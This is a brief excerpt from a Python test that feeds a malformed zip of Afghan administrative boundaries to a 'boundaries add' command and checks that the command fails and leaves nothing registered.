    junk = _junk_zip(boundaries_dir, tmp_path / "afg_adm1_junk.zip", how)
    result = run("boundaries", "add", junk)
    assert_error(result, message.format(junk=junk))
    registry = no_boundaries / "registry.json"
    assert not registry.exists() or json.loads(registry.read_text()) == {"files": []}  # nothing left registered
